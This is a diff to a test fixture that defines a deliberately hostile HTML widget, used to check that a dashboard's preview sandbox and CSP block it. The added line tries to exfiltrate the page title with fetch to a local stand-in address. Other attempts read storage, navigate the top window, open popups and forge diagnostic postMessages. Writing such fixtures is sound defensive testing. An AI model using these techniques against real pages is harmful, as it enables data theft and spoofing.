@@ -55,8 +55,9 @@ export const THROWING_WIDGET = `<!doctype html>
 
 /**
  * A hostile widget: it tries to reach the dashboard's DOM, read its cookies and storage, navigate
- * the top window, open a popup, and post messages forged in the preview's own diagnostic format.
- * The sandbox must stop every one; the widget shows what it managed.
+ * the top window, open a popup, send data out with fetch, and post messages forged in the
+ * preview's own diagnostic format. The sandbox and the CSP must stop every one; the widget shows
+ * what it managed.
  */
 export const HOSTILE_WIDGET = `<!doctype html>
 <html lang="en">
@@ -73,6 +74,7 @@ export const HOSTILE_WIDGET = `<!doctype html>
       attempt('storage', function () { window.localStorage.setItem('pwned', '1'); return 'WRITTEN'; });
       attempt('top navigation', function () { window.top.location.href = 'http://127.0.0.1:9/pwned'; return 'attempted'; });
       attempt('popup', function () { return window.open('http://127.0.0.1:9/popup') ? 'OPENED' : 'blocked'; });
+      attempt('exfiltration', function () { fetch('http://127.0.0.1:9/exfiltrate?c=' + encodeURIComponent(document.title)).catch(function () {}); return 'attempted'; });
       ['', 'guess', 'null'].forEach(function (nonce) {
         window.parent.postMessage({ channel: 'mcp-doctor-preview', nonce: nonce, kind: 'console', level: 'error', text: 'FORGED entry' }, '*');
         window.parent.postMessage({ channel: 'mcp-doctor-preview', nonce: nonce, kind: 'size', height: 5000 }, '*');
